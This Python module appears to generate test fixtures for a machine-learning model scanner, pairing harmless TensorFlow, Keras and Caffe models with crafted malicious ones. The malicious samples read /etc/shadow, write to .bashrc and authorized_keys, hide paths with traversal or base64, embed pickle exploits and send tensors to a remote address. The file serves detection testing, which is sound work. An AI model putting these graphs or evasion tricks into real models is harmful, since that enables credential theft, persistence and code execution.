"""TensorFlow: operators that reach files, Python and other machines, wherever a graph can hold them."""

from __future__ import annotations

import base64
import json
import pickle
import struct

from corpus import Content, bad, honest
from corpus.onnx import Exploit
from corpus.wire import field, fields, varint

FILE, MODEL = "graph.pb", "saved_model.pb"
FLOAT, STRING = 1, 7
MAGIC = b"\x57\xfb\x80\x8b\x24\x75\x47\xdb"


def attribute(key: str, value: bytes) -> bytes:
    return field(5, field(1, key) + field(2, value))


def node(op: str, *inputs: str, name: str = "", attributes: bytes = b"") -> bytes:
    return field(1, name or op.lower()) + field(2, op) + b"".join(field(3, i) for i in inputs) + attributes


def text(value: bytes | str, name: str = "text", more: bytes = b"") -> bytes:
    """A constant of one string."""
    tensor = field(1, STRING) + field(2, b"") + field(8, value) + more
    return constant(name, STRING, tensor)


def constant(name: str, kind: int, tensor: bytes) -> bytes:
    attributes = attribute("value", field(8, tensor)) + attribute("dtype", field(6, kind))
    return node("Const", name=name, attributes=attributes)


def floats(dims: tuple[int, ...], content: bytes) -> bytes:
    shape = b"".join(field(2, field(1, n)) for n in dims)
    return constant("w", FLOAT, field(1, FLOAT) + field(2, shape) + field(4, content))


def function(name: str, *nodes: bytes, arguments: tuple[str, ...] = ()) -> bytes:
    signature = field(1, name) + b"".join(field(2, field(1, a) + field(3, STRING)) for a in arguments)
    return field(1, signature) + b"".join(field(3, n) for n in nodes)


def call(name: str, *inputs: str, key: str = "f", op: str = "StatefulPartitionedCall") -> bytes:
    return node(op, *inputs, attributes=attribute(key, field(10, field(1, name))))


def graph(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    library = field(2, b"".join(field(1, f) for f in functions)) if functions else b""
    return b"".join(field(1, n) for n in nodes) + library + field(4, field(1, 1882))


def saved(content: bytes, more: bytes = b"") -> bytes:
    return field(1, 1) + field(2, field(1, field(4, "serve")) + field(2, content) + more)


def asset(filename: str, tensor: str = "text:0") -> bytes:
    return field(6, field(1, field(1, tensor)) + field(2, filename))


X = node("Placeholder", name="x")
PATH = node("Placeholder", name="path", attributes=attribute("dtype", field(6, STRING)))

# honest


@honest("tensorflow", "a frozen graph", file=FILE)
def frozen() -> bytes:
    return graph(X, floats((2, 1), struct.pack("<2f", 1, 2)), node("MatMul", "x", "w"), node("Softmax", "matmul"))


@honest("tensorflow", "a model that saves itself to a path that it is given", file=MODEL)
def saver() -> bytes:
    parts = text("_temp/part", "suffix"), node("StringJoin", "path", "suffix"), text("w", "names")
    shard = node("ShardedFilename", "stringjoin", "zero", "one")
    return saved(graph(PATH, *parts, shard, node("SaveV2", "shardedfilename", "names", "names", "w")))


@honest("tensorflow", "the same in a function, called with what it is given", file=MODEL)
def saver_function() -> bytes:
    inner = function("save", node("RestoreV2", "prefix", "names", "names"), arguments=("prefix",))
    return saved(graph(PATH, call("save", "path"), functions=(inner,)))


@honest("tensorflow", "a vocabulary among the assets", file=MODEL)
def vocabulary() -> bytes:
    table = node("InitializeTableFromTextFileV2", "table", "text")
    return saved(graph(text("/home/me/vocab.txt"), node("HashTableV2", name="table"), table), asset("vocab.txt"))


@honest("tensorflow", "tf.print to the error stream", file=FILE)
def prints() -> bytes:
    return graph(X, node("PrintV2", "x", attributes=attribute("output_stream", field(2, "stderr"))))


@honest("tensorflow", "labels in a constant, and a branch in a function", file=FILE)
def branch() -> bytes:
    body = function("then", node("Identity", "a"), arguments=("a",))
    choice = call("then", "x", "text", key="then_branch", op="If")
    return graph(X, text("a label of some length"), choice, functions=(body,))


def index(*entries: tuple[bytes, bytes]) -> bytes:
    """A tensor bundle's index: one block of entries, an empty one, and the block that finds them."""

    def block(pairs: tuple[tuple[bytes, bytes], ...]) -> bytes:
        rows = b"".join(b"\0" + varint(len(k)) + varint(len(v)) + k + v for k, v in pairs)
        return rows + struct.pack("<II", 0, 1)

    data = block(entries)
    meta, at = block(()), len(data) + 5
    top_at = at + len(meta) + 5
    top = block(((entries[-1][0], varint(0) + varint(len(data))),))
    handles = varint(at) + varint(len(meta)) + varint(top_at) + varint(len(top))
    return b"".join(b + b"\0" + bytes(4) for b in (data, meta, top)) + handles.ljust(40, b"\0") + MAGIC


HEADER = (b"", field(1, 1) + field(3, field(1, 1)))


def entry(name: bytes, dims: tuple[int, ...], offset: int, size: int, shard: int = 0) -> tuple[bytes, bytes]:
    shape = b"".join(field(2, field(1, n)) for n in dims)
    place = (field(3, shard) if shard else b"") + (field(4, offset) if offset else b"")
    return name, field(1, FLOAT) + field(2, shape) + place + field(5, size) + varint(6 << 3 | 5) + bytes(4)


def checkpoint(content: bytes, *entries: tuple[bytes, bytes]) -> Content:
    return {"variables.index": index(HEADER, *entries), "variables.data-00000-of-00001": content}


@honest("tensorflow", "a checkpoint of two tensors")
def two_tensors() -> Content:
    return checkpoint(bytes(range(24)), entry(b"a", (2,), 0, 8), entry(b"b", (2, 2), 8, 16))


# operators


@bad("tensorflow", "reads a file when it runs", file=FILE)
def read_file() -> bytes:
    return graph(text("/etc/passwd"), node("ReadFile", "text"))


@bad("tensorflow", "writes a file when it is loaded (modelscan's first example)", file=MODEL)
def write_file() -> bytes:
    return saved(graph(text("/root/.bashrc"), text("id", "what"), node("WriteFile", "text", "what")))


@bad("tensorflow", "a file written by a function that only an attribute names", file=MODEL)
def write_in_function() -> bytes:
    inner = function("f", text("/root/.bashrc"), node("WriteFile", "text:output:0", "text:output:0"))
    return saved(graph(X, call("f", key="body", op="StatelessWhile"), functions=(inner,)))


@bad("tensorflow", "a file written by a function that nothing calls yet", file=FILE)
def write_in_unused() -> bytes:
    return graph(X, functions=(function("f", text("/tmp/x"), node("WriteFile", "text:output:0", "text:output:0")),))


@bad("tensorflow", "a graph inside a text, which DatasetFromGraph builds (modelscan 0.8.8 misses it)", file=MODEL)
def nested_graph() -> bytes:
    inner = graph(text("/tmp/x"), node("WriteFile", "text", "text"))
    return saved(graph(text(inner), node("DatasetFromGraph", "text")))


@bad("tensorflow", "a graph inside a text, for an operator to come", file=FILE)
def nested_graph_alone() -> bytes:
    return graph(text(graph(X, node("ReadFile", "x"))))


@bad("tensorflow", "calls Python", file=FILE)
def python() -> bytes:
    return graph(X, node("PyFunc", "x", attributes=attribute("token", field(2, "pyfunc_0"))))


@bad("tensorflow", "calls Python, eagerly", file=FILE)
def python_eager() -> bytes:
    return graph(X, node("EagerPyFunc", "x"))


@bad("tensorflow", "lists files", file=FILE)
def matching() -> bytes:
    return graph(text("/home/*"), node("MatchingFiles", "text"))


@bad("tensorflow", "PrintV2 appends to a file", file=FILE)
def prints_to_file() -> bytes:
    return graph(X, node("PrintV2", "x", attributes=attribute("output_stream", field(2, "file:///root/.bashrc"))))


@bad("tensorflow", "a debugging operator that sends tensors to an address", file=FILE)
def debug() -> bytes:
    address = attribute("debug_urls", field(1, field(2, "grpc://203.0.113.9:1")))
    return graph(X, node("DebugIdentityV3", "x", attributes=address))


@bad("tensorflow", "runs a function on another machine", file=FILE)
def remote() -> bytes:
    return graph(X, text("/job:worker/task:1"), call("f", "text", "x", op="RemoteCall"), functions=(function("f"),))


@bad("tensorflow", "a data set that reads files", file=FILE)
def dataset() -> bytes:
    return graph(text("/etc/shadow"), node("TextLineDataset", "text"))


@bad("tensorflow", "memory that is mapped from a file", file=FILE)
def immutable() -> bytes:
    return graph(X, node("ImmutableConst", attributes=attribute("memory_region_name", field(2, "/etc/passwd"))))


@bad("tensorflow", "writes event files", file=FILE)
def summary() -> bytes:
    return graph(text("/var/www"), node("CreateSummaryFileWriter", "writer", "text"))


@bad("tensorflow", "calls a native function by its name", file=FILE)
def native() -> bytes:
    return graph(X, node("XlaCustomCallV2", "x", attributes=attribute("call_target_name", field(2, "system"))))


@bad("tensorflow", "an operator that no registry knows", file=FILE)
def custom() -> bytes:
    return graph(X, node("AcmeZeroOut", "x"))


@bad("tensorflow", "an operator whose name only looks like a known one", file=FILE)
def lookalike() -> bytes:
    return graph(X, node("Mat\u200bMul", "x"))


@bad("tensorflow", "ends the process", file=FILE)
def abort() -> bytes:
    return graph(X, node("Abort"))


@bad("tensorflow", "decodes a message whose description lies in a file", file=FILE)
def descriptor() -> bytes:
    return graph(X, node("DecodeProtoV2", "x", attributes=attribute("descriptor_source", field(2, "/etc/passwd"))))


@bad("tensorflow", "a function that takes the place of an operator", file=FILE)
def shadow() -> bytes:
    return graph(X, node("MatMul", "x"), functions=(function("MatMul", node("Identity", "a"), arguments=("a",)),))


# paths


@bad("tensorflow", "SaveV2 to a path of the model's own", file=MODEL)
def save_literal() -> bytes:
    return saved(graph(text("/root/.ssh/authorized_keys"), node("SaveV2", "text", "n", "n", "w")))


@bad("tensorflow", "the same, joined of harmless pieces and one that leaves the folder", file=MODEL)
def save_joined() -> bytes:
    join = node("StringJoin", "path", "text")
    return saved(graph(PATH, text("/../../../root/.bashrc"), join, node("SaveV2", "stringjoin", "n", "n", "w")))


@bad("tensorflow", "the same, as the default of a placeholder", file=MODEL)
def save_default() -> bytes:
    default = node("PlaceholderWithDefault", "text", name="p")
    return saved(graph(text("/root/.bashrc"), default, node("SaveV2", "p", "n", "n", "w")))


@bad("tensorflow", "the same, handed to a function through another", file=MODEL)
def save_through_functions() -> bytes:
    inner = function("inner", node("SaveV2", "a", "n", "n", "w"), arguments=("a",))
    outer = function("outer", call("inner", "b"), arguments=("b",))
    return saved(graph(text("/root/.bashrc"), call("outer", "text"), functions=(inner, outer)))


@bad("tensorflow", "the same, decoded first", file=MODEL)
def save_decoded() -> bytes:
    path = text(base64.b64encode(b"/root/.bashrc"))
    return saved(graph(path, node("DecodeBase64", "text"), node("SaveV2", "decodebase64", "n", "n", "w")))


@bad("tensorflow", "the same, through a variable", file=MODEL)
def save_variable() -> bytes:
    kind = attribute("dtype", field(6, STRING))
    variable = node("VarHandleOp", name="v", attributes=kind)
    assign = node("AssignVariableOp", "v", "text", attributes=kind)
    read = node("ReadVariableOp", "v", attributes=kind)
    return saved(graph(text("/root/.bashrc"), variable, assign, read, node("SaveV2", "readvariableop", "n", "n", "w")))


@bad("tensorflow", "RestoreV2 from a path of the model's own", file=FILE)
def restore_literal() -> bytes:
    return graph(text("/srv/other/model/variables"), node("RestoreV2", "text", "n", "n"))


@bad("tensorflow", "a vocabulary that is no asset", file=MODEL)
def table_literal() -> bytes:
    return saved(graph(text("/etc/passwd"), node("InitializeTableFromTextFileV2", "table", "text")))


@bad("tensorflow", "an asset outside the model", file=MODEL)
def asset_outside() -> bytes:
    table = node("InitializeTableFromTextFileV2", "table", "text")
    return saved(graph(text("vocab.txt"), table), asset("../../../../etc/passwd"))


# Keras, texts, sizes, what parsers merge


@bad("tensorflow", "a Lambda layer in Keras metadata", file="keras_metadata.pb")
def keras_lambda() -> bytes:
    config = {"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None], "function_type": "lambda"}}
    body = fields((2, 1), (3, "root.layer-0"), (4, "_tf_keras_layer"), (5, json.dumps(config)))
    return field(1, body)


@bad("tensorflow", "the same in the object graph of a saved model", file=MODEL)
def keras_lambda_inside() -> bytes:
    config = json.dumps({"class_name": "Lambda", "config": {"function": ["4wEAAAA=", None, None]}})
    user = field(4, field(1, "_tf_keras_layer") + field(3, config))
    return saved(graph(X), field(7, field(1, user)))


@bad("tensorflow", "a pickle in a constant", file=FILE)
def pickled() -> bytes:
    return graph(text(pickle.dumps(Exploit())))


@bad("tensorflow", "a tensor of 2^40 values out of 8 bytes", file=FILE)
def size() -> bytes:
    return graph(floats((1 << 20, 1 << 20), bytes(8)))


@bad("tensorflow", "a tensor of four values out of 8 bytes", file=FILE)
def size_less() -> bytes:
    return graph(floats((4,), bytes(8)))


@bad("tensorflow", "two graphs, which a parser merges", file=MODEL)
def two_graphs() -> bytes:
    return field(1, 1) + field(2, field(1, b"") + field(2, graph(X)) + field(2, graph(node("Softmax", "x"))))


@bad("tensorflow", "the operator's name twice: the last one runs", file=FILE)
def two_operators() -> bytes:
    return graph(X, node("Softmax", "x") + field(2, "Identity"))


@bad("tensorflow", "an attribute's key twice: the last one counts", file=FILE)
def two_keys() -> bytes:
    streams = attribute("output_stream", field(2, "stderr")) + attribute("output_stream", field(2, "stdout"))
    return graph(X, node("PrintV2", "x", attributes=streams))


@bad("tensorflow", "an attribute of two kinds", file=FILE)
def two_kinds() -> bytes:
    return graph(X, node("Softmax", "x", attributes=attribute("T", field(6, FLOAT) + field(2, "text"))))


@bad("tensorflow", "a field that no reader knows", file=FILE)
def unknown_field() -> bytes:
    return graph(X) + field(77, "anything")


@bad("tensorflow", "bytes behind the model", file=MODEL)
def trailing() -> bytes:
    return saved(graph(X)) + b"\xff\xff\xff trailing"


@bad("tensorflow", "attributes nested a thousand deep", file=FILE)
def nested() -> bytes:
    value = field(2, "x")
    for _ in range(1000):
        value = field(10, field(1, "f") + field(2, field(1, "k") + field(2, value)))
    return graph(X, node("Softmax", "x", attributes=attribute("a", value)))


# graphs as text

TEXT = """saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" }
  graph_def {
    node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { }
      string_val: "/tmp/x" } } } }
    node { name: "w" op: "%s" input: ["p", "p"] }
  }
}
"""


@honest("tensorflow", "a saved model as text", file="saved_model.pbtxt")
def as_text() -> bytes:
    return (TEXT % "StringJoin").encode()


@bad("tensorflow", "a saved model as text that writes a file", file="saved_model.pbtxt")
def text_write() -> bytes:
    return (TEXT % "WriteFile").encode()


@bad("tensorflow", "the same with escapes, comments, other brackets and no name", file="model.bin")
def text_disguised() -> bytes:
    text_ = TEXT.replace("graph_def {", "# nothing\ngraph_def: <").replace("  }\n}", "  >\n}")
    return (text_ % "Wri' 'te\\106ile".replace("' '", '" "')).encode()


@bad("tensorflow", "a graph as text with a field that nobody knows", file="graph.pbtxt")
def text_unknown() -> bytes:
    return b'node { name: "x" op: "Placeholder" } secret: 1'


@bad("tensorflow", "a graph as text with nothing but a function", file="graph.pbtxt")
def text_function() -> bytes:
    return b'version: 9 library { function { signature { name: "f" } node_def { name: "r" op: "ReadFile" } } }'


@bad("tensorflow", "a graph as text that breaks off", file="graph.pbtxt")
def text_broken() -> bytes:
    return b'node { name: "x" op: "ReadFile"'


@bad("tensorflow", "a graph of TensorFlow.js' form that reads files", file="model.json")
def json_read() -> bytes:
    return json.dumps({"modelTopology": {"node": [{"name": "x", "op": "ReadFile", "input": ["y"]}]}}).encode()


@bad("tensorflow", "a Caffe layer that imports a module", file="deploy.prototxt")
def caffe_python() -> bytes:
    return b'name: "net" layer { name: "x" type: "Python" python_param { module: "os" layer: "Evil" } }'


@honest("tensorflow", "a Caffe network", file="deploy.prototxt")
def caffe() -> bytes:
    return b'name: "net"\nlayer { name: "x" type: "Convolution" convolution_param { num_output: 3 } }\n'


# checkpoints


@bad("tensorflow", "a tensor beyond the end of its file")
def bundle_beyond() -> Content:
    return checkpoint(bytes(8), entry(b"a", (4,), 0, 16))


@bad("tensorflow", "bytes that no tensor owns")
def bundle_unread() -> Content:
    return checkpoint(bytes(64), entry(b"a", (2,), 0, 8))


@bad("tensorflow", "two tensors in the same bytes")
def bundle_overlap() -> Content:
    return checkpoint(bytes(12), entry(b"a", (2,), 0, 8), entry(b"b", (2,), 4, 8))


@bad("tensorflow", "a shape that is not the size")
def bundle_shape() -> Content:
    return checkpoint(bytes(8), entry(b"a", (1 << 20,), 0, 8))


@bad("tensorflow", "a pickle for weights")
def bundle_pickle() -> Content:
    payload = pickle.dumps(Exploit())
    payload += bytes(-len(payload) % 4)
    return checkpoint(payload, entry(b"a", (len(payload) // 4,), 0, len(payload)))


@bad("tensorflow", "an index without its file", file="variables.index")
def bundle_alone() -> bytes:
    return index(HEADER, entry(b"a", (2,), 0, 8))


@bad("tensorflow", "an index whose search would find other entries")
def bundle_restarts() -> Content:
    content = dict(checkpoint(bytes(8), entry(b"a", (2,), 0, 8)))
    data = content["variables.index"]
    assert isinstance(data, bytes)
    content["variables.index"] = data.replace(struct.pack("<II", 0, 1), struct.pack("<II", 3, 1), 1)
    return content
